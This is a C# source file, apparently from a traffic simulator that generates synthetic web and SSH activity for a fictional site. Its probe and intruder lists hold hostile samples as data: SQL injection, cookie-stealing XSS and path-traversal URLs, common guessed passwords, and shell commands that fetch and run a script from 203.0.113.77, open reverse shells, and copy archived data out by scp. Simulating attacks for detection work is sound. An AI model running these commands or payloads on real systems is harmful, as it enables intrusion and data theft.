using System.Net;

namespace QuickStart.Simulation;

/// <summary>The simulated site: its servers, what visitors ask for, and the words that people and attackers use.</summary>
internal static class Site
{
    public static readonly IPAddress Web = IPAddress.Parse("198.51.100.10");
    public static readonly IPAddress Ssh = IPAddress.Parse("198.51.100.22");
    public static readonly IPAddress Resolver = IPAddress.Parse("10.20.0.53");

    public static readonly string[] Pages =
    [
        "/", "/index.html", "/products", "/products?id=17", "/products?id=204&sort=price", "/search?q=garden+chairs", "/search?q=o%27neill", "/cart", "/cart/add?item=88",
        "/login", "/account/orders?page=2", "/static/app.css", "/static/app.js", "/img/logo.png", "/blog/how-to-select-a-union-table", "/contact", "/api/v1/stock?sku=A-1--2",
    ];

    public static readonly string[] Probes =
    [
        "/products?id=17%27%20UNION%20SELECT%20user,pass%20FROM%20users--", "/products?id=1%20OR%201=1", "/login?user=admin%27--", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/search?q=%22onmouseover=alert(document.cookie)", "/download?file=..%2f..%2f..%2fetc%2fpasswd", "/..%252f..%252fwindows/win.ini", "/.git/config", "/.env", "/wp-admin/setup-config.php",
        "/phpmyadmin/", "/cgi-bin/test.cgi", "/products?id=17;waitfor%20delay%20%270:0:5%27", "/backup.sql", "/admin/config.php?cmd=id",
    ];

    public static readonly string[] Users = ["anna", "ben", "carla", "deploy", "backup", "monitor"];

    public static readonly string[] GuessedUsers = ["root", "admin", "test", "oracle", "postgres", "ubuntu", "user", "guest", "git", "ftp", "pi", "mysql", "support", "nagios"];

    public static readonly string[] GuessedPasswords = ["123456", "password", "admin", "root", "12345", "qwerty", "1234", "toor", "letmein", "P@ssw0rd", "raspberry", "abc123", "111111", "test"];

    public static readonly string[] AdminCommands =
    [
        "ls -la /var/log", "sudo systemctl restart nginx", "tail -n 100 /var/log/syslog", "df -h", "git pull --ff-only", "docker ps", "sudo apt-get update", "vim /etc/nginx/nginx.conf", "top -b -n 1",
        "curl -s http://localhost/health", "show platform information", "ps aux", "exit",
    ];

    public static readonly string[] IntruderCommands =
    [
        "uname -a", "cat /etc/passwd", "wget http://203.0.113.77/x.sh -O /tmp/x.sh", "chmod +x /tmp/x.sh", "sh /tmp/x.sh", "sudo su -", "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1", "crontab -l",
        "find / -perm -4000 -type f", "nc -e /bin/sh 203.0.113.77 9001", "tar czf /tmp/d.tgz /srv/data", "scp /tmp/d.tgz x@203.0.113.77:/in", "history -c", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
    ];

    public static IPAddress Internal(int host) => new([10, 20, (byte)(1 + host / 200), (byte)(10 + host % 200)]);

    public static IPAddress External(Random random)
    {
        while (true)
        {
            byte first = (byte)random.Next(11, 223);
            if (first is 100 or 127 or 169 or 172 or 192 or 198 or 203) continue;
            return new IPAddress([first, (byte)random.Next(256), (byte)random.Next(256), (byte)random.Next(1, 255)]);
        }
    }
}
